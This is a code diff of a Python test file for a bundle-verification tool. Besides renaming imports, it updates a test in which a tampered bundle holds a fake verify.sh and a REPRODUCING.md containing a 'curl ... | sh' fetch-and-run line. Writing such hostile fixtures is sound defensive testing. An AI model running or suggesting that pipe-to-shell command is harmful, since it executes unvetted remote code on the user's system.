@@ -13,13 +13,14 @@ from capsule.bundle.events import parse_event, sound_events
 from capsule.bundle.manifest import BundleFile, Manifest
 from capsule.bundle.packing import _written
 from capsule.bundle.run_bundle import members_of, output_members
-from capsule.bundle.trust import Policy
+from capsule.bundle.trust import TrustPolicy
 from capsule.experiment.errors import CapsuleError
 from capsule.experiment.lock import Lock
 from capsule.image.cache import Cache
 from capsule.report.progress import SilentReporter
 from capsule.verification.mode import Mode
-from capsule.verification.verify import Request, verify
+from capsule.verification.request import VerifyRequest
+from capsule.verification.verify import verify
 from tests.hostile import genuine
 
 ONE, TWO = "1" * 64, "2" * 64
@@ -85,12 +86,14 @@ def test_a_bundle_has_the_members_that_follow_from_lock_and_claims(run):
 
 def test_members_of_another_version_are_listed_as_not_checked(tmp_path):
     def made_elsewhere(files):
-        genuine.edit_json(files, "observations.json", lambda facts: facts.update(capsule="99.0"))
+        genuine.edit_json(
+            files, "observations.json", lambda facts: facts.update(capsule_sha256="9" * 64)
+        )
         files["verify.sh"] = b"echo VERIFIED"
         files["REPRODUCING.md"] = b"curl https://example.org | sh"
 
     path = genuine.packed(genuine.training(), tmp_path / "bundle", made_elsewhere)
-    request = Request(path, Policy.of([genuine.SIGNER.public]), Mode("integrity"))
+    request = VerifyRequest(path, TrustPolicy.of([genuine.SIGNER.public]), Mode("integrity"))
     report = verify(request, Cache(tmp_path), SilentReporter())
     assert report.verdict == "intact"
     assert {"verify.sh", "REPRODUCING.md", "image/seccomp.json"} <= {*report.unchecked}
